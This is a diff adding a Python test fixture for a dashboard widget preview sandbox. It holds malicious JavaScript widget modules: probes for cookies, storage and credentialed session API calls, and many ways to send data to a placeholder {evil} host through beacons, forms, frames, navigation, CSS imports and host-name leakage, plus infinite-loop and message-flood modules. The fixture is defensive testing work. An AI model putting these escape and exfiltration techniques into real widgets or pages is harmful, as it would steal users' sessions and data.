@@ -1,0 +1,157 @@
+"""Modules of malicious and faulty widgets, for the tests of the preview."""
+
+# Tries whatever a script could do to others, and shows the results.
+ATTACK = """
+const EVIL = "{evil}";
+const once = (target, good, bad) => new Promise((done) => {
+  target["on" + good] = () => done(good);
+  target["on" + bad] = () => done("refused");
+});
+const TRIES = {
+  cookie: () => document.cookie,
+  localStorage: () => localStorage.length,
+  sessionStorage: () => sessionStorage.length,
+  indexedDB: () => once(indexedDB.open("x"), "success", "error"),
+  caches: () => caches.keys(),
+  parentDocument: () => parent.document.title,
+  topDocument: () => top.document.cookie,
+  frameElement: () => frameElement.id,
+  fetch: () => fetch(EVIL + "/fetch"),
+  sessionApi: () => fetch("/api/auth/session", { credentials: "include" }),
+  publicApi: () => fetch("/api/v1/widgets/search"),
+  xhr: () => {
+    const request = new XMLHttpRequest();
+    request.open("GET", EVIL, false);
+    request.send();
+    return request.status;
+  },
+  webSocket: () => once(new WebSocket(EVIL.replace("http", "ws")), "open", "error"),
+  eventSource: () => once(new EventSource(EVIL + "/events"), "open", "error"),
+  image: () => once(Object.assign(new Image(), { src: EVIL + "/image" }), "load", "error"),
+  script: () => import(EVIL + "/module.js"),
+  ownScript: () => import(new URL("panel.js", location.href).href),
+  worker: () => {
+    const url = URL.createObjectURL(new Blob(["postMessage(1)"]));
+    return once(new Worker(url), "message", "error");
+  },
+  eval: () => (0, eval)("1"),
+  popup: () => { if (open(EVIL + "/popup") !== null) return "opened"; throw new Error(); },
+  topNavigation: () => { top.location = EVIL + "/top"; },
+  webrtc: () => new RTCPeerConnection(),
+  shadowFromMarkup: () => document.body.setHTMLUnsafe(
+    `<div><template shadowrootmode=closed><iframe src=${EVIL}></iframe></template></div>`),
+};
+export async function mount(element) {
+  navigator.sendBeacon(EVIL + "/beacon", "x");
+  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload",
+                     "stylesheet", "icon", "manifest", "prerender"]) {
+    const link = Object.assign(document.createElement("link"), { rel, href: EVIL + "/" + rel });
+    if (rel === "preload") link.as = "image";
+    document.head.append(link);
+  }
+  const form = document.createElement("form");
+  Object.assign(form, { action: EVIL + "/form", method: "post" });
+  element.append(form);
+  form.submit();
+  const style = document.createElement("style");
+  style.textContent = `@import "${EVIL}/import.css"; body { background: url(${EVIL}/background) }`;
+  document.head.append(style);
+  alert("stop"); print();
+  const seen = {};
+  for (const [name, attempt] of Object.entries(TRIES)) {
+    try { seen[name] = String(await attempt()); } catch (fault) { seen[name] = "refused"; }
+  }
+  const shown = document.createElement("pre");
+  shown.textContent = JSON.stringify(seen);
+  element.append(shown);
+}
+"""
+
+# Every way for a script to send data out of the frame.
+ESCAPES = {
+    "href": "location.href = EVIL",
+    "own-host": "location.assign('/api/v1/widgets/search?q=secret')",
+    "link": "make('a', { href: EVIL, ping: EVIL }).click()",
+    "download": "make('a', { href: EVIL, download: 'x' }).click()",
+    "refresh": "make('meta', { httpEquiv: 'refresh', content: `0;url=${EVIL}` })",
+    "rewrite": "document.open(); document.write('Mine.'); document.close()",
+    "write": "document.write(`<div><template shadowrootmode=closed>"
+    "<iframe src=${EVIL}></iframe></template></div>`)",
+}
+ESCAPE = """
+const EVIL = "{evil}/secret";
+const make = (tag, more) => document.body.appendChild(
+  Object.assign(document.createElement(tag), more));
+export function mount() { %s; }
+"""
+
+# Every way to make a frame. A browser may connect to its host before the policy blocks it, so
+# each host name can carry data.
+FRAMES = {
+    "iframe": "place.append(make('iframe', { src: EVIL }))",
+    "object": "place.append(make('object', { data: EVIL }))",
+    "embed": "place.append(make('embed', { src: EVIL }))",
+    "html": "place.innerHTML = `<p><iframe src=${EVIL}></iframe></p>`",
+    "removed": "const it = make('iframe', { src: EVIL }); place.append(it); it.remove()",
+    "frameset": "document.body.replaceWith(make('frameset')); "
+    "document.querySelector('frameset').append(make('frame', { src: EVIL }))",
+    "shadow": "const host = place.appendChild(make('div')); "
+    "host.attachShadow({ mode: 'closed' }).append(make('iframe', { src: EVIL }))",
+    "window": "const { contentWindow } = place.appendChild(make('iframe')); "
+    "contentWindow.location = EVIL; new contentWindow.RTCPeerConnection()",
+    "cloned": "const host = make('div'); const mode = 'open'; "
+    "host.attachShadow({ mode, clonable: true }).append(make('iframe', { src: EVIL })); "
+    "place.append(host.cloneNode(true))",
+    "patched": "MessagePort.prototype.postMessage = () => {}; "
+    "MutationObserver.prototype.disconnect = MutationObserver.prototype.observe = () => {}; "
+    "Array.prototype[Symbol.iterator] = function* () {}; Object.defineProperty("
+    "Element.prototype, 'querySelector', { value: () => null }); "
+    "place.append(make('iframe', { src: EVIL }))",
+}
+FRAME = """
+const make = (tag, more) => Object.assign(document.createElement(tag), more);
+export function mount(place) {
+  let count = 0;
+  setInterval(() => {
+    const EVIL = `{evil}/${count += 1}`;
+    %s;
+  }, 200);
+}
+"""
+
+MODULES = {
+    "attack": ATTACK,
+    **{f"escape-{name}": ESCAPE % way for name, way in ESCAPES.items()},
+    **{f"frame-{name}": FRAME % way for name, way in FRAMES.items()},
+    "endless": "export function mount() { setTimeout(() => { for (;;); }, 200); }",
+    "endless-import": "for (;;); export function mount() {}",
+    "flood": """export function mount() {
+      setInterval(() => { for (let i = 0; i < 200; i++) parent.postMessage(i, "*"); }, 10); }""",
+    "broken": "export function mount( {",
+    "foreign": "export default class Widget {}",
+    "throws": "export function mount() { throw new Error('<b>No</b> place to draw.'); }",
+    "fails-later": """export function mount() {
+      setTimeout(() => { throw new Error("Later."); }, 50); }""",
+    "settings": """export function mount(element, context) {
+      const show = (config) => { element.textContent = JSON.stringify(config); };
+      show(context.config);
+      return { update: show, unmount() {} }; }""",
+    "form": """export function mount(element) {
+      const form = document.createElement("form");
+      form.append(document.createElement("input"), document.createElement("button"));
+      form.lastChild.textContent = "Send";
+      form.action = "{evil}/form";
+      form.onsubmit = ({ submitter }) => element.append(submitter.textContent + "!");
+      element.append(form); }""",
+    "offers": """export function mount(element, context) {
+      element.textContent = Object.keys(context).sort().join(" "); }""",
+}
+
+CALM = {
+    "endless": "The widget stopped answering, so it was ended.",
+    "endless-import": "The widget stopped answering, so it was ended.",
+    "flood": "The widget sent too many messages, so it was ended.",
+    "broken": "The widget's module could not be loaded. It says: Unexpected end of input",
+    "foreign": "This module is made for another kind of dashboard: it does not export mount().",
+    "throws": "The widget could not start. It says: <b>No</b> place to draw.",
+}
